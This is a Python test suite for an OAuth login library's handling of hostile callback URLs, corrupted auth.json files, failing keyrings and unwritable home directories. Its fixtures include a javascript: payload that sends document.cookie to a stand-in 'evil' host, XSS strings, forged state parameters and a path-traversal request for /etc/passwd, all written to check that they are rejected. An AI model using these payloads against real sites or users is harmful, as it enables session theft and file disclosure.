"""Hostile or broken input on the auth side: callback URLs, auth.json, keyrings, unwritable homes.

Every case ends in a typed error that says what to do (``LoginError`` with a ``code``, ``TokenStoreError``
naming the file) or in a documented tolerant behaviour, and nothing already stored is lost.
"""

from __future__ import annotations

import io
import logging
import os
import re
import threading
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from keyring.backend import KeyringBackend
from keyrings.alt.file import PlaintextKeyring

from oauth_codex import CodexError, LoginError, MemoryTokenStore, TokenStoreError
from oauth_codex.auth import AutoTokenStore, FileTokenStore, KeyringTokenStore, TokenData, login
from oauth_codex.auth._pkce import parse_pasted_callback
from oauth_codex.testing import CodexEmulator

from .helpers import ANSWER

STATE = "s" * 43
CODE = "ac_" + "C" * 40
CALLBACK = "http://localhost:1455/auth/callback"
AUTHORIZE_URL = re.compile(r"(http://\S+/oauth/authorize\?\S+)")
EPHEMERAL = "http://localhost:0/auth/callback"


def same_login(a: TokenData | None, b: TokenData) -> bool:
    """The same secrets (a file round trip adds the Codex layout's extra keys)."""
    return a is not None and (a.access_token, a.refresh_token, a.id_token) == (
        b.access_token,
        b.refresh_token,
        b.id_token,
    )


# ----------------------------------------------------------------------------- paste-mode parser

#: (id, pasted text, the LoginError code expected, or None when the code is accepted)
PASTES: list[tuple[str, str, str | None]] = [
    ("genuine", f"{CALLBACK}?code={CODE}&state={STATE}", None),
    ("genuine-query-only", f"code={CODE}&state={STATE}", None),
    ("genuine-bare-code", CODE, None),
    # documented tolerance: the host is not checked in paste mode; the state (unguessable, single use) is
    # what authenticates a pasted URL, and the code is useless without this login's PKCE verifier
    ("wrong-host-right-state", f"https://evil.example/auth/callback?code={CODE}&state={STATE}", None),
    ("wrong-host-no-state", f"https://evil.example/auth/callback?code={CODE}", "state_mismatch"),
    ("missing-state", f"{CALLBACK}?code={CODE}", "state_mismatch"),
    ("wrong-state", f"{CALLBACK}?code={CODE}&state=forged", "state_mismatch"),
    ("state-in-fragment", f"{CALLBACK}#code={CODE}&state={STATE}", "state_mismatch"),
    ("duplicated-state-forged-first", f"{CALLBACK}?code={CODE}&state=forged&state={STATE}", "state_mismatch"),
    ("duplicated-state-forged-last", f"{CALLBACK}?code={CODE}&state={STATE}&state=forged", "state_mismatch"),
    ("duplicated-code", f"{CALLBACK}?code={CODE}&code=other&state={STATE}", "invalid_callback"),
    ("error-callback", f"{CALLBACK}?error=access_denied&error_description=nope&state={STATE}", "access_denied"),
    ("error-callback-forged", f"{CALLBACK}?error=access_denied&state=forged", "state_mismatch"),
    ("empty-code", f"{CALLBACK}?code=&state={STATE}", "missing_authorization_code"),
    ("nothing", "   ", "missing_authorization_code"),
    ("javascript-url", "javascript:alert(document.cookie)", "invalid_callback"),
    ("data-url", "data:text/html,<script>alert(1)</script>", "invalid_callback"),
    ("javascript-query", f"javascript:fetch('//evil/?'+document.cookie)&state={STATE}", "missing_authorization_code"),
    ("broken-ipv6-url", f"http://[::1/auth/callback?code={CODE}&state={STATE}", "invalid_callback"),
    ("control-characters", "ac_\x00\x1b[31m", "invalid_callback"),
    ("nul-in-code", f"{CALLBACK}?code=%00&state={STATE}", "invalid_callback"),
    ("spaces", "this is not a code", "invalid_callback"),
    ("huge-bare", "A" * 1_000_000, "invalid_callback"),
    ("huge-url", f"{CALLBACK}?code={'A' * 1_000_000}&state={STATE}", "invalid_callback"),
    ("huge-junk-query", f"{CALLBACK}?{'x=1&' * 200_000}state={STATE}", "invalid_callback"),
]


@pytest.mark.parametrize(("pasted", "expected"), [p[1:] for p in PASTES], ids=[p[0] for p in PASTES])
def test_pasted_callback_parser(pasted: str, expected: str | None) -> None:
    if expected is None:
        assert parse_pasted_callback(pasted, STATE) == CODE
        return
    with pytest.raises(LoginError) as info:
        parse_pasted_callback(pasted, STATE)
    assert info.value.code == expected
    message = str(info.value)
    assert len(message) < 400
    assert "login" in message.lower() or "paste" in message.lower()  # says what to do next
    assert "A" * 100 not in message  # a huge paste is never echoed back


class PasteUser:
    """Paste mode's ``input_func``: signs in at the printed URL and pastes ``answers`` (or a transform)."""

    def __init__(self, console: io.StringIO, answers: list[Callable[[str], str]]) -> None:
        self.console = console
        self.answers = list(answers)
        self.prompts = 0

    def __call__(self, prompt: str) -> str:
        self.prompts += 1
        authorize = AUTHORIZE_URL.findall(self.console.getvalue())[-1]
        location = httpx.get(authorize, follow_redirects=False, timeout=10).headers["location"]
        return self.answers.pop(0)(location)


def _state_of(location: str) -> str:
    return re.search(r"state=([^&]+)", location).group(1)  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("answers", "code", "prompts"),
    [
        # a garbled paste is asked for again (three tries), then the login fails with the parser's error
        ([lambda loc: "javascript:alert(1)"] * 3, "invalid_callback", 3),
        ([lambda loc: "A" * 100_000] * 3, "invalid_callback", 3),
        ([lambda loc: re.sub(r"state=[^&]+", "state=forged", loc)] * 3, "state_mismatch", 3),
        ([lambda loc: f"{CALLBACK}?error=access_denied&state={_state_of(loc)}"], "access_denied", 1),
    ],
    ids=["javascript", "huge", "forged-state-thrice", "error-callback"],
)
def test_hostile_paste_login_fails_before_any_exchange_and_keeps_the_store(
    emu: CodexEmulator, answers: list[Callable[[str], str]], code: str, prompts: int
) -> None:
    before = emu.login_tokens()
    store = MemoryTokenStore(before)
    console = io.StringIO()
    user = PasteUser(console, answers)
    with pytest.raises(LoginError) as info:
        login(emu.oauth_config(), mode="paste", store=store, input_func=user, output=console)
    assert info.value.code == code
    assert user.prompts == prompts
    assert emu.grant_counts.get("authorization_code", 0) == 0  # nothing hostile reached the token endpoint
    assert store.load() is before


# ----------------------------------------------------------------------------- browser callback server


def test_hostile_requests_to_the_callback_server_are_refused_and_the_login_completes(
    emu: CodexEmulator,
) -> None:
    seen: list[int] = []
    done: list[httpx.Response] = []

    def browser(url: str) -> bool:
        redirect = httpx.URL(url).params["redirect_uri"]
        emu.allow_redirect_uri(redirect)
        state = httpx.URL(url).params["state"]

        def visit() -> None:
            with httpx.Client(timeout=10) as http:
                for hostile in (
                    f"{redirect}?code=stolen&state=forged",
                    f"{redirect}?code=stolen&state=forged&state={state}",
                    f"{redirect}?code=stolen&state={state}&state=forged",
                    f"{redirect}?{'junk=1&' * 5000}state=forged",
                    f"{redirect}?state=%00%ff&code=%ff",
                ):
                    seen.append(http.get(hostile).status_code)
                seen.append(http.get(redirect.replace("/auth/callback", "/../../etc/passwd")).status_code)
                seen.append(http.post(redirect, content=b"code=x").status_code)
                done.append(http.get(url, follow_redirects=True))

        threading.Thread(target=visit, daemon=True).start()
        return True

    store = MemoryTokenStore()
    tokens = login(
        emu.oauth_config(redirect_uri=EPHEMERAL),
        mode="browser",
        store=store,
        open_browser=browser,
        output=io.StringIO(),
        timeout=10,
    )
    assert seen[:5] == [400] * 5  # forged or ambiguous state: refused, and the server keeps listening
    assert seen[5] == 404 and seen[6] in (405, 501)
    assert done and done[0].status_code == 200 and done[0].url.path == "/success"
    assert same_login(store.load(), tokens) and emu.grant_counts["authorization_code"] == 1


def _dump(tokens: TokenData) -> str:
    import json

    return json.dumps(tokens.to_auth_json(), indent=2)


CORRUPTIONS: list[tuple[str, Callable[[bytes], bytes]]] = [
    ("truncated", lambda doc: doc[: len(doc) // 2]),
    ("empty", lambda doc: b""),
    ("not-json", lambda doc: b"this is not json"),
    ("json-array", lambda doc: b"[1, 2, 3]"),
    ("no-tokens", lambda doc: b'{"auth_mode": "chatgpt", "OPENAI_API_KEY": null}'),
    ("tokens-not-a-dict", lambda doc: b'{"tokens": "eyJ..."}'),
    ("bad-last-refresh", lambda doc: doc.replace(b'"last_refresh": "', b'"last_refresh": "yesterday ')),
    ("not-utf8", lambda doc: b"\xff\xfe\x00garbage" + doc[:50]),
    ("nul-bytes", lambda doc: b"\x00" * 4096),
]


@pytest.mark.parametrize("corrupt", [c[1] for c in CORRUPTIONS], ids=[c[0] for c in CORRUPTIONS])
async def test_corrupted_auth_json_is_a_clear_error_and_is_backed_up_before_a_new_login(
    emu: CodexEmulator, tmp_path: Path, corrupt: Callable[[bytes], bytes]
) -> None:
    path = tmp_path / "home" / "auth.json"
    path.parent.mkdir(mode=0o700)
    damaged = corrupt(_dump(emu.login_tokens()).encode())
    path.write_bytes(damaged)
    store = FileTokenStore(path)

    with pytest.raises(TokenStoreError) as info:
        store.load()
    assert info.value.path == str(path) and str(path) in str(info.value)
    assert "oauth-codex login" in str(info.value)

    # the client surfaces the same typed error (sync and async) and never touches the file
    llm = emu.client(token_store=store)
    with pytest.raises(TokenStoreError, match=re.escape(str(path))):
        llm.generate(prompt="hi")
    with pytest.raises(TokenStoreError, match=re.escape(str(path))):
        await llm.agenerate(prompt="hi")
    await llm.aclose()
    assert path.read_bytes() == damaged
    assert emu.responses_requests == []

    # a new login replaces it, but only after keeping the damaged bytes in auth.json.corrupt-<time>
    console = io.StringIO()
    login(
        emu.oauth_config(),
        mode="paste",
        store=store,
        input_func=PasteUser(console, [lambda loc: loc]),
        output=console,
    )
    backups = list(path.parent.glob("auth.json.corrupt-*"))
    assert len(backups) == 1 and backups[0].read_bytes() == damaged
    assert oct(backups[0].stat().st_mode & 0o777) == "0o600"
    assert store.load() is not None
    with emu.client(token_store=store) as llm:
        assert llm.generate(prompt="hi") == ANSWER


def test_default_store_with_a_corrupted_file_names_it(emu: CodexEmulator, tmp_path: Path) -> None:
    """The default store (keyring unavailable here, so the file) reports the damaged file by name."""
    config = emu.oauth_config(home=tmp_path / "home")
    path = config.home_dir / "auth.json"
    path.parent.mkdir(mode=0o700)
    path.write_text('{"tokens": {"access_token": ')
    with pytest.raises(TokenStoreError, match=re.escape(str(path))):
        AutoTokenStore(config).load()
    assert path.read_text() == '{"tokens": {"access_token": '


# ----------------------------------------------------------------------------- keyrings that raise


class RaisingKeyring(KeyringBackend):
    """A keyring whose calls raise ``exc`` (a broken D-Bus, a locked store, a backend bug)."""

    priority = 1  # type: ignore[assignment]

    def __init__(self, exc: BaseException) -> None:
        super().__init__()
        self.exc = exc
        self.calls = 0

    def get_password(self, service: str, username: str) -> str | None:
        self.calls += 1
        raise self.exc

    def set_password(self, service: str, username: str, password: str) -> None:
        self.calls += 1
        raise self.exc

    def delete_password(self, service: str, username: str) -> None:
        self.calls += 1
        raise self.exc


def _keyring_errors() -> list[BaseException]:
    from keyring.errors import InitError, KeyringError, KeyringLocked, NoKeyringError

    return [
        KeyringLocked("locked"),
        NoKeyringError("no backend"),
        InitError("dbus"),
        KeyringError("generic"),
        RuntimeError("backend bug"),
        OSError(5, "I/O error"),
        ValueError("bad value"),
    ]


@pytest.mark.parametrize("exc", _keyring_errors(), ids=lambda e: type(e).__name__)
def test_auto_store_falls_back_to_the_file_when_the_keyring_raises(
    emu: CodexEmulator, tmp_path: Path, exc: BaseException, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="oauth_codex")
    backend = RaisingKeyring(exc)
    file_store = FileTokenStore(tmp_path / "home" / "auth.json")
    store = AutoTokenStore(
        emu.oauth_config(home=tmp_path / "home"),
        mode="auto",
        keyring_store=KeyringTokenStore(backend=backend),
        file_store=file_store,
        migrate_legacy=False,
    )
    assert store.load() is None
    tokens = emu.login_tokens()
    store.save(tokens)
    assert same_login(file_store.load(), tokens) and same_login(store.load(), tokens)
    assert backend.calls >= 1
    notices = [r for r in caplog.records if r.levelno >= logging.WARNING and "keyring" in r.getMessage()]
    assert len(notices) == 1  # one notice, not one per call
    # the client works on top of it, and its refresh lands in the file
    emu.expire_tokens()
    with emu.client(token_store=store) as llm:
        assert llm.generate(prompt="hi") == ANSWER
    refreshed = file_store.load()
    assert refreshed is not None and refreshed.refresh_token != tokens.refresh_token


def test_a_corrupted_keyring_entry_is_reported_and_never_deleted(emu: CodexEmulator, tmp_path: Path) -> None:
    keyring = PlaintextKeyring()
    keyring.file_path = str(tmp_path / "keyring.cfg")  # type: ignore[misc]
    keyring.set_password("oauth-codex", "default", '{"oauth_codex_chunks": "x"}')
    store = AutoTokenStore(
        emu.oauth_config(home=tmp_path / "home"),
        mode="keyring",
        keyring_store=KeyringTokenStore(backend=keyring),
        migrate_legacy=False,
    )
    with pytest.raises(TokenStoreError, match="corrupted"):
        store.load()
    assert keyring.get_password("oauth-codex", "default") == '{"oauth_codex_chunks": "x"}'


# ----------------------------------------------------------------------------- unwritable home


def _unwritable_homes(tmp_path: Path) -> list[Path]:
    homes = []
    if os.geteuid() != 0:  # root ignores permission bits, so a 0500 directory only blocks other users
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        homes.append(locked / "oauth_codex")
        homes.append(locked)
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    homes.append(blocker / "oauth_codex")  # a path through a regular file
    if Path("/proc/self").is_dir():
        homes.append(Path("/proc/self"))  # exists, read-only for everyone (root included)
        homes.append(Path("/proc/self/oauth_codex"))  # cannot be created
    return homes


def test_login_into_an_unwritable_home_is_a_clear_error(emu: CodexEmulator, tmp_path: Path) -> None:
    for home in _unwritable_homes(tmp_path):
        config = emu.oauth_config(home=home)
        store = FileTokenStore(config.home_dir / "auth.json")
        console = io.StringIO()
        with pytest.raises(TokenStoreError) as info:
            login(config, mode="paste", store=store, input_func=PasteUser(console, [lambda x: x]), output=console)
        message = str(info.value)
        assert str(home) in message and "CODEX_OAUTH_HOME" in message, message


def test_refresh_with_an_unwritable_home_is_a_clear_error_and_keeps_the_tokens(
    emu: CodexEmulator, tmp_path: Path
) -> None:
    """A readable login in a home that cannot take the refresh lock: a typed error, tokens untouched."""
    before = emu.login_tokens()
    store = MemoryTokenStore(before)
    store.lock_path = Path("/proc/self/oauth_codex/auth.json.lock")  # type: ignore[attr-defined]
    emu.expire_tokens()
    with emu.client(token_store=store) as llm:
        with pytest.raises(CodexError) as info:
            llm.generate(prompt="hi")
    assert isinstance(info.value, TokenStoreError) and "/proc/self/oauth_codex" in str(info.value)
    assert store.load() is before
    assert emu.grant_counts.get("refresh_token", 0) == 0


@pytest.mark.parametrize("command", [["status"], ["chat", "hi"], ["models"]])
def test_cli_with_a_corrupted_auth_json_names_the_file_and_keeps_it(
    emu: CodexEmulator, command: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from oauth_codex.cli import main

    for key, value in emu.env().items():
        monkeypatch.setenv(key, value)
    path = Path(os.environ["CODEX_OAUTH_HOME"]) / "auth.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('{"tokens": {"access_token": "eyJ')
    assert main(command) == 1
    err = capsys.readouterr().err
    assert str(path) in err and "corrupted" in err and "Traceback" not in err
    assert path.read_text() == '{"tokens": {"access_token": "eyJ'
    assert emu.responses_requests == []
